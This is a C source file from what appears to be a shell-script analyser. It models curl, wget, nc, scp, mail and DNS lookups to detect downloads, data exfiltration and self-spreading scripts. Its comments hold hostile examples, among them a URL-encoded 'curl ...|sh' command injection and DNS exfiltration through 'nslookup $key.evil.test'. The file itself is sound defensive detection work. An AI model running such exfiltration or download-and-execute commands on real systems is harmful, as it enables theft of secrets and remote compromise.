/* SPDX-License-Identifier: Apache-2.0 */
#include "shell/tool.h"
#include "shell/host.h"

/* Programs that move bytes over a network: curl, wget and their kin, nc, scp, /dev/tcp. */

struct transfer {
    struct call *call;
    struct bytes url[4];
    struct shell_string whole[4]; /* the same with taint */
    uint32_t url_count;
    struct bytes save;        /* -o; "-" for standard output */
    struct bytes directory;   /* wget -P */
    struct shell_string data; /* what is sent */
    struct bytes data_way;    /* the option that sends it */
    bool remote_name, insecure, silent, sends, is_wget, is_other;
};

static void data_add(struct transfer *t, struct shell_string value, struct bytes option, bool file)
{
    struct call *call = t->call;
    size_t at = bytes_find_byte(value.text, '@', 0);
    if (!file && at != BYTES_NPOS &&
        (at == 0 || value.text.at[at - 1] == '=' || option.at[1] == 'F' ||
         bytes_equal(option, BYTES("--data-urlencode")))) {
        struct bytes path = bytes_from(value.text, at + 1);
        size_t semicolon = bytes_find_byte(path, ';', 0);
        path = semicolon == BYTES_NPOS ? path : bytes_sub(path, 0, semicolon);
        if (bytes_equal(path, BYTES("-")) || bytes_equal(path, BYTES("/dev/stdin")))
            value = call->has_in ? call->in : value;
        else
            value = string_join(call->m, file_read(call, path),
                                (struct shell_string){BYTES_NONE, value.taint, value.step});
    } else if (file) {
        if (bytes_equal(value.text, BYTES("-")) || bytes_equal(value.text, BYTES(".")))
            value = call->has_in ? call->in : value;
        else {
            struct shell_string content = file_read(call, value.text);
            content = string_join(call->m, content,
                                  (struct shell_string){BYTES_NONE, value.taint, value.step});
            value = content;
        }
    }
    orders_read(call, value);
    t->data = string_join(call->m, t->data, value);
    t->data_way = option, t->sends = true;
}

static bool is_one_of(struct bytes arg, const char *const *names)
{
    for (; *names != NULL; names++)
        if (bytes_equal(arg, bytes_of_string(*names)))
            return true;
    return false;
}

static const char *const option_sends[] = {
    "-d", "--data", "--data-binary", "--data-raw",    "--data-urlencode",
    "-F", "--form", "--post-data",   "--form-string", "--json",
    NULL};
static const char *const option_files[] = {"-T", "--upload-file", "--post-file", "--body-file",
                                           NULL};
static const char *const option_valued[] = {"-H",
                                            "--header",
                                            "-A",
                                            "--user-agent",
                                            "-u",
                                            "--user",
                                            "-x",
                                            "--proxy",
                                            "-X",
                                            "--request",
                                            "-m",
                                            "--max-time",
                                            "--connect-timeout",
                                            "--retry",
                                            "-e",
                                            "--referer",
                                            "-b",
                                            "--cookie",
                                            "-c",
                                            "--cookie-jar",
                                            "-U",
                                            "-t",
                                            "--tries",
                                            "--timeout",
                                            "--cacert",
                                            "--cert",
                                            "--key",
                                            "-w",
                                            "--write-out",
                                            "--retry-delay",
                                            "--socks5",
                                            "--socks5-hostname",
                                            "--resolve",
                                            "--limit-rate",
                                            "--interface",
                                            "-E",
                                            "--unix-socket",
                                            "-K",
                                            "-C",
                                            "-r",
                                            "-D",
                                            NULL};

/* Single-letter options in one word; the last may take a value.  Answers as option_read does. */
static uint32_t cluster_read(struct transfer *t, uint32_t i, struct bytes arg,
                             struct shell_string next)
{
    struct call *call = t->call;
    for (size_t k = 1; k < arg.len; k++) {
        uint8_t c = arg.at[k];
        struct shell_string value = next;
        bool rest = k + 1 < arg.len;
        if (rest)
            value.text = bytes_from(arg, k + 1), value.taint = call->arg[i].taint,
            value.step = call->arg[i].step;
        if (c == 's' || c == 'q')
            t->silent = true;
        else if (c == 'k' && !t->is_wget)
            t->insecure = true;
        else if (c == 'O' && !t->is_wget)
            t->remote_name = true;
        else if ((c == 'O' && t->is_wget) || (c == 'o' && !t->is_wget)) {
            t->save = value.text;
            return rest ? 0 : 1;
        } else if (c == 'P' && t->is_wget) {
            t->directory = value.text;
            return rest ? 0 : 1;
        } else if (c == 'o' && t->is_wget) {
            return rest ? 0 : 1;
        } else if ((c == 'F' || c == 'd' || c == 'T') && !t->is_wget) {
            data_add(t, value,
                     c == 'F'   ? BYTES("-F")
                     : c == 'd' ? BYTES("-d")
                                : BYTES("-T"),
                     c == 'T');
            return rest ? 0 : 1;
        } else if (strchr(t->is_wget ? "tTUe" : "HAumXexbcwCrD", c) != NULL) {
            return rest ? 0 : 1;
        }
    }
    return 0;
}

/* Option at I; answers how many arguments it takes beyond itself. */
static uint32_t option_read(struct transfer *t, uint32_t i)
{
    struct call *call = t->call;
    struct bytes arg = call_arg(call, i);
    struct shell_string next =
        i + 1 < call->count ? call->arg[i + 1] : (struct shell_string){.text = BYTES("")};
    size_t equals = bytes_find_byte(arg, '=', 0);
    bool lone = true;
    if (arg.len > 2 && arg.at[0] == '-' && arg.at[1] == '-' && equals != BYTES_NPOS) {
        next.text = bytes_from(arg, equals + 1), next.taint = call->arg[i].taint,
        next.step = call->arg[i].step;
        arg = bytes_sub(arg, 0, equals), lone = false;
    }
    uint32_t taken = lone ? 1 : 0;
    if (is_one_of(arg, option_sends) && !(t->is_wget && arg.at[1] != '-')) {
        data_add(t, next, arg, false);
        return taken;
    }
    if (is_one_of(arg, option_files) && !(t->is_wget && arg.len == 2)) {
        data_add(t, next, arg, true);
        return taken;
    }
    if (bytes_equal(arg, BYTES("--output")) || bytes_equal(arg, BYTES("--output-document")) ||
        bytes_equal(arg, BYTES("--out"))) {
        t->save = next.text;
        return taken;
    }
    if (bytes_equal(arg, BYTES("--directory-prefix"))) {
        t->directory = next.text;
        return taken;
    }
    t->insecure |=
        bytes_equal(arg, BYTES("--insecure")) || bytes_equal(arg, BYTES("--no-check-certificate"));
    t->silent |= bytes_equal(arg, BYTES("--silent")) || bytes_equal(arg, BYTES("--quiet"));
    t->remote_name |= bytes_equal(arg, BYTES("--remote-name"));
    if (is_one_of(arg, option_valued) &&
        !(t->is_wget && arg.len == 2 && strchr("cxrb", arg.at[1]) != NULL))
        return taken;
    if (arg.len < 2 || arg.at[1] == '-')
        return 0;
    return cluster_read(t, i, arg, next);
}

static bool looks_like_url(struct bytes arg)
{
    struct host_url url;
    if (arg.len < 4 || !host_url_parse(arg, &url))
        return false;
    return url.scheme.len > 0 || arg.at[0] == 0 ||
           (url.host.len > 3 && bytes_find_byte(url.host, '.', 0) != BYTES_NPOS);
}

static struct bytes url_file(struct bytes url)
{
    struct host_url parts;
    host_url_parse(url, &parts);
    struct bytes path = parts.path;
    size_t cut = bytes_find_byte(path, '?', 0);
    path = cut == BYTES_NPOS ? path : bytes_sub(path, 0, cut);
    size_t slash = bytes_find_last_byte(path, '/');
    path = slash == BYTES_NPOS ? path : bytes_from(path, slash + 1);
    return path.len > 0 ? path : BYTES("index.html");
}

/* A command line for the other side, in the address itself: "..exec(%22curl%20http://..%7Csh%22)". */
static void url_orders(struct call *call, struct shell_string url)
{
    if (bytes_find(url.text, BYTES("curl%20"), 0) == BYTES_NPOS &&
        bytes_find(url.text, BYTES("wget%20"), 0) == BYTES_NPOS)
        return;
    uint8_t *plain = arena_alloc_raw(call->m->arena, url.text.len + 1);
    size_t len = 0, start;
    for (size_t i = 0; i < url.text.len; i++) {
        int high = i + 2 < url.text.len ? ascii_hex(url.text.at[i + 1]) : -1;
        int low = i + 2 < url.text.len ? ascii_hex(url.text.at[i + 2]) : -1;
        bool coded = url.text.at[i] == '%' && high >= 0 && low >= 0;
        plain[len++] = coded ? (uint8_t)(high * 16 + low) : url.text.at[i];
        i += coded ? 2 : 0;
    }
    url.text = bytes_of(plain, len);
    start = bytes_find(url.text, BYTES("curl "), 0);
    start = start == BYTES_NPOS ? bytes_find(url.text, BYTES("wget "), 0) : start;
    size_t end = start;
    while (end < len && strchr("\"')}", url.text.at[end]) == NULL)
        end++;
    url.text = bytes_sub(url.text, start, end - start);
    orders_read(call, url);
}

static struct shell_fetch *fetch_new(struct transfer *t, struct bytes url)
{
    struct machine *m = t->call->m;
    struct shell_report *report = m->report;
    struct shell_fetch *f = arena_new_of(m->arena, struct shell_fetch);
    struct host_url parts;
    host_url_parse(url, &parts);
    f->layer = m->layer, f->line = layer_line(m->arena, m->layer, m->offset);
    f->tool = t->call->name, f->url = string_shown(m->arena, url);
    f->host = string_shown(m->arena, parts.host);
    f->host_kind = host_kind_of_url(&parts);
    f->tls = bytes_equal(parts.scheme, BYTES("https"));
    f->insecure = t->insecure, f->silent = t->silent || t->call->silent, f->sends = t->sends;
    if (report->fetch_count++ < 1024)
        *report->fetch_end = f, report->fetch_end = &f->next;
    return f;
}

static void transfer_url(struct transfer *t, uint32_t n)
{
    struct call *call = t->call;
    struct machine *m = call->m;
    struct bytes url = t->url[n];
    struct shell_fetch *f = fetch_new(t, url);
    struct host_url where; /* http://$x/y with x from a download: a dead drop told it */
    f->relayed = (t->whole[n].taint & TAINT_BIT(FETCHED)) != 0 && host_url_parse(url, &where) &&
                 bytes_equal(where.scheme, BYTES("http")) && f->host_kind == HOST_UNKNOWN &&
                 where.host.at[0] == 0;
    struct shell_string s = {.text = string_hole(m->arena, "$(", call->name, ")")};
    s = string_taint(m, s, TAINT_BIT(FETCHED));
    struct shell_step *step = NULL;
    memcpy(&step, &s.step, sizeof step); /* made just now, by string_taint */
    step->fetch = f;
    sense_url_read(call, url, &s);
    url_orders(call, t->whole[n]);
    sense_fetch(call, f);
    if (t->sends && t->data.text.at != NULL)
        sense_send(call, t->data, url, t->is_wget ? BEHAVIOUR_E2 : BEHAVIOUR_E1,
                   t->is_wget ? "wget post" : "curl upload");
    sense_send(call, t->whole[n], url, BEHAVIOUR_E3, "query string");
    if (((t->whole[n].taint | t->data.taint) & TAINT_BIT(IDENTITY)) != 0 && host_is_catcher(url))
        sense(m, BEHAVIOUR_E3, ROLE_USED, url);
    if ((t->whole[n].taint & TAINT_BIT(IDENTITY)) != 0 && f->host_kind == HOST_ADDRESS)
        sense_soft(m, BEHAVIOUR_E3, ROLE_USED, url);
    bool outside = f->host_kind == HOST_ADDRESS || f->host_kind == HOST_NAME || f->host_kind == HOST_TOR;
    uint32_t told = t->whole[n].taint | t->data.taint;
    if ((told & TAINT_BIT(HOSTS)) != 0 && f->host_kind == HOST_ADDRESS) /* where the keys lead */
        sense(m, t->is_wget ? BEHAVIOUR_E2 : BEHAVIOUR_E1, ROLE_USED, url);
    if ((told & TAINT_BIT(SCANNED)) != 0 && outside) /* what a scan found */
        m->report->spreads = true, sense(m, BEHAVIOUR_L2, ROLE_USED, url);
    if ((t->whole[n].taint & TAINT_BIT(SCANNED)) != 0 && f->host_kind == HOST_ADDRESS &&
        report_count(m->report, BEHAVIOUR_L6) > 0) /* guessed passwords go home */
        sense_sure(m, BEHAVIOUR_L6, ROLE_USED, url);
    bool to_output = bytes_equal(t->save, BYTES("-")) || bytes_starts(t->save, BYTES("/dev/std"));
    struct bytes path = t->save;
    if (t->save.at == NULL && ((t->is_wget && !t->is_other) || t->remote_name))
        path = url_file(url);
    if (path.len == 0 || to_output) {
        call->out = call->out.text.at == NULL ? s : string_join(m, call->out, s);
        return;
    }
    while (t->directory.len > 1 && t->directory.at[t->directory.len - 1] == '/')
        t->directory.len--;
    if (t->directory.len > 0)
        path = arena_printf(m->arena, "%.*s/%.*s", BYTES_FMT(string_shown(m->arena, t->directory)),
                            BYTES_FMT(path));
    f->path = string_shown(m->arena, path);
    file_write(call, path, s, false);
    sense_write(call, path, s, false);
    if (table_get(m->startups, path_resolve(m, path)) != NULL) /* what a start-up file names already */
        execute_file(call, path, true);
}

/* ftpget HOST LOCAL REMOTE; tftp -g -r FILE HOST; wget -g HOST -r FILE -l LOCAL */
static void old_read(struct transfer *t)
{
    struct call *call = t->call;
    struct bytes remote = BYTES_NONE, host = BYTES_NONE;
    t->remote_name = true;
    for (uint32_t i = 1; i < call->count; i++) {
        struct bytes arg = call_arg(call, i);
        bool option = arg.len == 2 && arg.at[0] == '-';
        if (option && (arg.at[1] == 'r' || arg.at[1] == 'l') && i + 1 < call->count) {
            if (arg.at[1] == 'l' || t->save.len == 0)
                t->save = call_arg(call, i + 1);
            remote = arg.at[1] == 'r' ? call_arg(call, i + 1) : remote;
            i++;
        } else if (host_is_ipv4(arg) && !host_is_ipv4(host)) {
            host = arg;
        } else if (host.len == 0 && arg.len > 3 && arg.at[0] != '-' &&
                   bytes_find_byte(arg, '.', 0) != BYTES_NPOS && bytes_find_byte(arg, '/', 0) == BYTES_NPOS) {
            host = arg;
        }
    }
    if (host.len == 0)
        return;
    while (remote.len > 0 && remote.at[0] == '/')
        remote = bytes_from(remote, 1);
    t->url[0] = remote.len == 0 ? host
                                : arena_printf(call->m->arena, "%.*s/%.*s", BYTES_FMT(host),
                                               BYTES_FMT(string_shown(call->m->arena, remote)));
    t->url_count = 1;
    if (t->save.len == 0 && call->count > 2)
        t->save = call_arg(call, call->count - 1);
}

void tool_fetch(struct call *call)
{
    struct transfer t = {.call = call};
    t.is_wget = bytes_equal(call->name, BYTES("wget")) || call_has(call, "-qO-") ||
                call_has(call, "-qO") || call_has(call, "-O-");
    t.is_other = tool_handler(call->name) == NULL;
    bool saves =
        bytes_equal(call->name, BYTES("aria2c")) || bytes_equal(call->name, BYTES("axel")) ||
        bytes_equal(call->name, BYTES("lwp-download")) || bytes_equal(call->name, BYTES("fetch"));
    t.remote_name = saves;
    bool old = bytes_equal(call->name, BYTES("ftpget")) || bytes_equal(call->name, BYTES("tftp"));
    old |= call_has(call, "-g") && call_has(call, "-r") && call_has(call, "-l"); /* of some busybox */
    for (uint32_t i = 1; i < call->count && !old; i++) {
        struct bytes arg = call_arg(call, i);
        if (arg.len > 1 && arg.at[0] == '-') {
            i += option_read(&t, i);
        } else if (arg.len > 0 && t.url_count < 4 &&
                   (looks_like_url(arg) || (t.url_count == 0 && arg.at[0] == 0))) {
            t.whole[t.url_count] = call->arg[i];
            t.url[t.url_count++] = arg;
        }
    }
    call->out = (struct shell_string){0};
    if (old) /* ftpget HOST LOCAL REMOTE; tftp -g -r FILE HOST */
        old_read(&t);
    for (uint32_t n = 0; n < t.url_count; n++)
        transfer_url(&t, n);
    if (t.url_count == 0) {
        call->out = call_unknown(call, (struct shell_string){0});
        if (call->count > 1)
            call->out = string_taint(call->m, call->out, TAINT_BIT(FETCHED));
        if (t.save.len > 0 && !bytes_equal(t.save, BYTES("-")))
            file_write(call, t.save, call->out, false);
    }
}

/* A secret as the name that is asked for: nslookup $key.evil.test; a name's text records are a download. */
void tool_query(struct call *call)
{
    call->out = call_unknown(call, (struct shell_string){0});
    bool texts = false;
    for (uint32_t i = 1; i < call->count; i++)
        texts |= bytes_equal_fold(call_arg(call, i), BYTES("txt")) ||
                 bytes_find_fold(call_arg(call, i), BYTES("=txt"), 0) != BYTES_NPOS;
    if (texts && call->count > 2) {
        struct transfer t = {.call = call};
        struct shell_fetch *f = fetch_new(&t, call_arg(call, call_operand(call, 1)));
        f->host_kind = HOST_NAME, f->insecure = true;
        call->out = string_taint(call->m, call->out, TAINT_BIT(FETCHED));
        struct shell_step *step = NULL;
        memcpy(&step, &call->out.step, sizeof step); /* made just now */
        step->fetch = f;
    }
    for (uint32_t i = 1; i < call->count; i++)
        if (call_arg(call, i).len > 0 && call_arg(call, i).at[0] != '-')
            sense_send(call, call->arg[i], call_arg(call, i), BEHAVIOUR_E3, "DNS query");
}

struct shell_fetch *fetch_socket(struct call *call, struct bytes address)
{
    struct machine *m = call->m;
    struct bytes host = address;
    size_t slash = bytes_find_byte(address, '/', 0);
    host = slash == BYTES_NPOS ? address : bytes_sub(address, 0, slash);
    struct shell_fetch *f = arena_new_of(m->arena, struct shell_fetch);
    f->layer = m->layer, f->line = layer_line(m->arena, m->layer, m->offset);
    f->tool = BYTES("/dev/tcp"), f->host = string_shown(m->arena, host);
    f->url = arena_printf(m->arena, "/dev/tcp/%.*s", BYTES_FMT(string_shown(m->arena, address)));
    f->host_kind = host_kind_of(host), f->insecure = true;
    if (m->report->fetch_count++ < 1024)
        *m->report->fetch_end = f, m->report->fetch_end = &f->next;
    return f;
}

/* What comes out of a connection to HOST: a download where HOST is a bare address. */
struct shell_string socket_output(struct call *call, struct bytes host)
{
    struct shell_string s = call_unknown(call, (struct shell_string){0});
    bool listens = call_flag(call, 'l') || call_flag(call, 'z');
    if (host_kind_of(host) != HOST_ADDRESS || listens)
        return s;
    struct shell_fetch *f = fetch_socket(call, host);
    f->tool = call->name;
    s = string_taint(call->m, s, TAINT_BIT(FETCHED));
    struct shell_step *step = NULL;
    memcpy(&step, &s.step, sizeof step); /* made just now, by string_taint */
    step->fetch = f;
    return s;
}

void tool_nc(struct call *call)
{
    struct bytes host = call_arg(call, call_operand(call, 1));
    for (uint32_t i = 1; i < call->count; i++)
        if (host_is_ipv4(call_arg(call, i)))
            host = call_arg(call, i);
    call->out = socket_output(call, host);
    if (!call->has_in)
        return;
    sense_send(call, call->in, host, BEHAVIOUR_E4, "socket");
    orders_read(call, call->in);
}

/* mail -s SUBJECT [-a FILE] ADDRESS: standard input and attachments go to the address. */
void tool_mail(struct call *call)
{
    struct bytes to = BYTES_NONE;
    for (uint32_t i = 1; i < call->count; i++)
        if (bytes_find_byte(call_arg(call, i), '@', 0) != BYTES_NPOS)
            to = call_arg(call, i);
    if (to.at == NULL)
        return;
    to = bytes_from(to, bytes_find_byte(to, '@', 0) + 1);
    if (call->has_in)
        sense_send(call, call->in, to, BEHAVIOUR_E7, "mail");
    for (uint32_t i = 1; i + 1 < call->count; i++)
        if (bytes_equal(call_arg(call, i), BYTES("-a")) ||
            bytes_equal(call_arg(call, i), BYTES("-A")))
            sense_send(call, file_read(call, call_arg(call, i + 1)), to, BEHAVIOUR_E7, "mail");
}

/* user@host:path TO: the copy is a download of that host's. */
static void scp_fetch(struct call *call, struct bytes to)
{
    struct machine *m = call->m;
    struct bytes from = call_arg(call, call->count - 2);
    size_t colon = bytes_find_byte(from, ':', 0), at = bytes_find_byte(from, '@', 0);
    if (colon == BYTES_NPOS || from.at[0] == '-' || from.at[0] == 0)
        return;
    struct bytes host = bytes_sub(from, at < colon ? at + 1 : 0, colon - (at < colon ? at + 1 : 0));
    if (host_kind_of(host) != HOST_ADDRESS)
        return;
    struct shell_fetch *f = fetch_socket(call, host);
    f->tool = call->name, f->url = string_shown(m->arena, from);
    struct shell_string s = {.text = string_hole(m->arena, "$(", call->name, ")")};
    s = string_taint(m, s, TAINT_BIT(FETCHED));
    struct shell_step *step = NULL;
    memcpy(&step, &s.step, sizeof step); /* made just now, by string_taint */
    step->fetch = f;
    struct bytes name = bytes_from(from, bytes_find_last_byte(from, '/') == BYTES_NPOS
                                             ? colon + 1
                                             : bytes_find_last_byte(from, '/') + 1);
    bool into = bytes_equal(to, BYTES(".")) || (to.len > 0 && to.at[to.len - 1] == '/');
    while (into && to.len > 1 && to.at[to.len - 1] == '/')
        to.len--;
    if (into)
        to = arena_printf(m->arena, "%.*s/%.*s", BYTES_FMT(to), BYTES_FMT(name));
    file_write(call, to, s, false);
}

/* newvm:dir -- a name of the user's own SSH configuration. */
static bool is_alias(struct bytes to)
{
    size_t colon = bytes_find_byte(to, ':', 0);
    struct bytes host = bytes_sub(to, 0, colon == BYTES_NPOS ? 0 : colon);
    return host.len > 0 && text_is_known(host) && bytes_find_byte(host, '.', 0) == BYTES_NPOS &&
           bytes_find_byte(host, '@', 0) == BYTES_NPOS;
}

/* $1:, ${1}:dir -- where whoever runs the script wants it. */
static bool is_given(struct bytes to)
{
    return to.len > 3 && to.at[0] == 0 && to.at[1] == '$' && ascii_is_digit(to.at[to.at[2] == '{' ? 3 : 2]);
}

void tool_scp(struct call *call)
{
    struct bytes to = call_arg(call, call->count - 1);
    if (call->count >= 3 && bytes_find_byte(to, ':', 0) == BYTES_NPOS)
        scp_fetch(call, to);
    if (call->count < 3 || bytes_find_byte(to, ':', 0) == BYTES_NPOS)
        return;
    for (uint32_t i = 1; i + 1 < call->count; i++) {
        struct bytes arg = call_arg(call, i);
        if (arg.len == 2 && arg.at[0] == '-' && strchr("iPoFlce", arg.at[1]) != NULL)
            i++;
        else if (bytes_equal(arg, bytes_of("\0${0}", 5)) && report_count(call->m->report, BEHAVIOUR_L6) > 0)
            /* itself, where a guessed password let it in */
            sense(call->m, BEHAVIOUR_L1, ROLE_USED, to);
        else if (arg.len > 0 && arg.at[0] != '-' && !is_alias(to) && !is_given(to))
            sense_send(call, file_read(call, arg), to, BEHAVIOUR_E4, "scp");
    }
}
